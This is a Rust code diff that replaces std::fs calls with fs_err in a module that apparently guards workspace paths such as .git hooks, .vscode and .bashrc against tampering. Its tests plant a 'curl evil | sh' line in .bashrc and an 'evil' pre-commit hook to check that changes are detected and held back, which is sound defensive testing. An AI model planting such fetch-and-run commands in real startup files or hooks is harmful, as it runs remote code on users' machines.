@@ -121,7 +121,7 @@ pub fn plan(workspace: &Path, paths: &[String], config_files: &[&str]) -> io::Re
             if meta.file_type().is_symlink() {
                 watched = Some(Before::Symlink {
                     depth: i + 1,
-                    target: std::fs::read_link(&at)?,
+                    target: fs_err::read_link(&at)?,
                 });
                 break;
             } else if meta.is_dir() && !last {
@@ -178,7 +178,7 @@ pub fn changes(workspace: &Path, watched: &[Watched]) -> Vec<(String, Change)> {
             (Before::Symlink { depth, target }, now) => {
                 let path = parts[..*depth].join("/");
                 let link = workspace.join(&path);
-                let same = std::fs::read_link(&link).is_ok_and(|t| &t == target);
+                let same = fs_err::read_link(&link).is_ok_and(|t| &t == target);
                 match now {
                     _ if same => None,
                     Now::Missing if link.symlink_metadata().is_err() => Some((
@@ -229,7 +229,7 @@ pub fn hold_back(
             let result = (|| {
                 if source.symlink_metadata().is_ok() {
                     if let Some(parent) = kept_at.parent() {
-                        std::fs::create_dir_all(parent)?;
+                        fs_err::create_dir_all(parent)?;
                     }
                     move_path(&source, &kept_at)?;
                 }
@@ -268,7 +268,7 @@ pub fn restore_held(workspace: &Path, held: &HeldBack) -> io::Result<()> {
         ));
     }
     if let Some(parent) = target.parent() {
-        std::fs::create_dir_all(parent)?;
+        fs_err::create_dir_all(parent)?;
     }
     move_path(&held.kept_at, &target)
 }
@@ -302,7 +302,7 @@ impl crate::RunStore {
         record: &crate::RunRecord,
     ) -> Result<Vec<HeldBack>, crate::RunError> {
         let path = self.run_dir(&record.id).join(PROTECTION_FILE);
-        let protection: Protection = match std::fs::read(&path) {
+        let protection: Protection = match fs_err::read(&path) {
             Ok(bytes) => serde_json::from_slice(&bytes).unwrap_or_else(|e| {
                 tracing::warn!(error = %e, "the protection plan is damaged; checking every default path");
                 Protection {
@@ -329,7 +329,7 @@ impl crate::RunStore {
                 }
             }
         }
-        let _ = std::fs::remove_file(&path);
+        let _ = fs_err::remove_file(&path);
         if !held.is_empty() {
             let kept = held.clone();
             self.update(&record.id, |r| r.held_back.extend(kept.iter().cloned()))?;
@@ -369,7 +369,7 @@ fn harmless(workspace: &Path, path: &str) -> bool {
     if !dir.symlink_metadata().is_ok_and(|m| m.is_dir()) {
         return false;
     }
-    std::fs::read_dir(&dir).is_ok_and(|entries| {
+    fs_err::read_dir(&dir).is_ok_and(|entries| {
         entries.flatten().all(|e| {
             e.file_type().is_ok_and(|t| t.is_file())
                 && e.file_name().to_string_lossy().ends_with(".sample")
@@ -389,7 +389,7 @@ fn push_unique(list: &mut Vec<String>, path: &str) {
 
 /// Rename, or copy and remove where the two are on different file systems.
 fn move_path(from: &Path, to: &Path) -> io::Result<()> {
-    match std::fs::rename(from, to) {
+    match fs_err::rename(from, to) {
         Ok(()) => Ok(()),
         Err(e) if e.raw_os_error() == Some(nix::libc::EXDEV) => {
             copy_tree(from, to)?;
@@ -402,24 +402,24 @@ fn move_path(from: &Path, to: &Path) -> io::Result<()> {
 fn copy_tree(from: &Path, to: &Path) -> io::Result<()> {
     let meta = from.symlink_metadata()?;
     if meta.file_type().is_symlink() {
-        std::os::unix::fs::symlink(std::fs::read_link(from)?, to)
+        std::os::unix::fs::symlink(fs_err::read_link(from)?, to)
     } else if meta.is_dir() {
-        std::fs::create_dir(to)?;
-        for entry in std::fs::read_dir(from)? {
+        fs_err::create_dir(to)?;
+        for entry in fs_err::read_dir(from)? {
             let entry = entry?;
             copy_tree(&entry.path(), &to.join(entry.file_name()))?;
         }
-        std::fs::set_permissions(to, meta.permissions())
+        fs_err::set_permissions(to, meta.permissions())
     } else {
-        std::fs::copy(from, to).map(|_| ())
+        fs_err::copy(from, to).map(|_| ())
     }
 }
 
 fn remove_tree(path: &Path) -> io::Result<()> {
     if path.symlink_metadata()?.is_dir() {
-        std::fs::remove_dir_all(path)
+        fs_err::remove_dir_all(path)
     } else {
-        std::fs::remove_file(path)
+        fs_err::remove_file(path)
     }
 }
 
@@ -443,10 +443,10 @@ mod tests {
     fn existing_paths_are_read_only_and_their_parents_anchored() {
         let ws = tempfile::tempdir().unwrap();
         let ws = ws.path();
-        std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
-        std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
-        std::fs::create_dir(ws.join(".vscode")).unwrap();
-        std::fs::write(ws.join("moat.yaml"), "{}\n").unwrap();
+        fs_err::create_dir_all(ws.join(".git/hooks")).unwrap();
+        fs_err::write(ws.join(".git/config"), "[core]\n").unwrap();
+        fs_err::create_dir(ws.join(".vscode")).unwrap();
+        fs_err::write(ws.join("moat.yaml"), "{}\n").unwrap();
         let p = plan(ws, &defaults(), &["moat.yaml", "agent.yaml"]).unwrap();
         assert_eq!(
             p.read_only,
@@ -466,7 +466,7 @@ mod tests {
     #[test]
     fn a_git_file_is_read_only_in_place_of_its_hooks() {
         let ws = tempfile::tempdir().unwrap();
-        std::fs::write(ws.path().join(".git"), "gitdir: /elsewhere\n").unwrap();
+        fs_err::write(ws.path().join(".git"), "gitdir: /elsewhere\n").unwrap();
         let p = plan(ws.path(), &defaults(), &[]).unwrap();
         assert_eq!(p.read_only, [".git"]);
     }
@@ -477,10 +477,10 @@ mod tests {
         let held = tempfile::tempdir().unwrap();
         let ws = ws.path();
         let p = plan(ws, &defaults(), &[]).unwrap();
-        std::fs::create_dir(ws.join(".vscode")).unwrap();
-        std::fs::write(ws.join(".vscode/tasks.json"), "{}").unwrap();
-        std::fs::create_dir_all(ws.join(".claude")).unwrap();
-        std::fs::write(ws.join(".claude/notes.md"), "mine").unwrap();
+        fs_err::create_dir(ws.join(".vscode")).unwrap();
+        fs_err::write(ws.join(".vscode/tasks.json"), "{}").unwrap();
+        fs_err::create_dir_all(ws.join(".claude")).unwrap();
+        fs_err::write(ws.join(".claude/notes.md"), "mine").unwrap();
         let found = changes(ws, &p.watched);
         assert_eq!(found, [(".vscode".to_owned(), Change::Created)]);
         let held_back: Vec<HeldBack> = hold_back(ws, held.path(), &found)
@@ -493,7 +493,7 @@ mod tests {
             "unprotected files stay"
         );
         assert_eq!(
-            std::fs::read_to_string(held.path().join(".vscode/tasks.json")).unwrap(),
+            fs_err::read_to_string(held.path().join(".vscode/tasks.json")).unwrap(),
             "{}"
         );
         restore_held(ws, &held_back[0]).unwrap();
@@ -509,14 +509,14 @@ mod tests {
         let ws = tempfile::tempdir().unwrap();
         let ws = ws.path();
         let p = plan(ws, &defaults(), &[]).unwrap();
-        std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
-        std::fs::write(ws.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").unwrap();
-        std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
+        fs_err::create_dir_all(ws.join(".git/hooks")).unwrap();
+        fs_err::write(ws.join(".git/hooks/pre-commit.sample"), "#!/bin/sh\n").unwrap();
+        fs_err::write(ws.join(".git/config"), "[core]\n").unwrap();
         assert_eq!(
             changes(ws, &p.watched),
             [(".git/config".to_owned(), Change::Created)]
         );
-        std::fs::write(ws.join(".git/hooks/pre-commit"), "#!/bin/sh\nevil\n").unwrap();
+        fs_err::write(ws.join(".git/hooks/pre-commit"), "#!/bin/sh\nevil\n").unwrap();
         assert_eq!(changes(ws, &p.watched).len(), 2);
     }
 
@@ -541,8 +541,8 @@ mod tests {
         let p = plan(ws, &defaults(), &[]).unwrap();
         assert!(p.read_only.is_empty(), "links are not mounted: {p:?}");
         assert!(changes(ws, &p.watched).is_empty());
-        std::fs::remove_file(ws.join(".bashrc")).unwrap();
-        std::fs::write(ws.join(".bashrc"), "curl evil | sh\n").unwrap();
+        fs_err::remove_file(ws.join(".bashrc")).unwrap();
+        fs_err::write(ws.join(".bashrc"), "curl evil | sh\n").unwrap();
         let found = changes(ws, &p.watched);
         assert!(
             matches!(found[0].1, Change::ReplacedLink { .. }),
@@ -552,11 +552,11 @@ mod tests {
             result.unwrap();
         }
         assert_eq!(
-            std::fs::read_link(ws.join(".bashrc")).unwrap(),
+            fs_err::read_link(ws.join(".bashrc")).unwrap(),
             Path::new("dotfiles/bashrc")
         );
         assert_eq!(
-            std::fs::read_to_string(held.path().join(".bashrc")).unwrap(),
+            fs_err::read_to_string(held.path().join(".bashrc")).unwrap(),
             "curl evil | sh\n"
         );
     }
